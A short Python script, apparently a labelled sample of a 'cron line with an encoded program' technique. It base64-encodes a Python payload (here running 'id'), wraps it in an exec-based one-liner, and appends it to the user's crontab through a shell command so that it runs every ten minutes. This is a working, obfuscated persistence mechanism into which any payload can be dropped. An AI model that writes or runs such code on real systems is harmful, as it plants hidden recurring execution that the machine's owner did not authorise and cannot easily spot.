# class: a cron line with an encoded program
import base64, subprocess
p = base64.b64encode(b"import os;os.system('id')").decode()
line = f"*/10 * * * * python3 -c \"import base64;exec(base64.b64decode('{p}'))\"\n"
subprocess.run("(crontab -l 2>/dev/null; echo '%s') | crontab -" % line.strip(), shell=True)
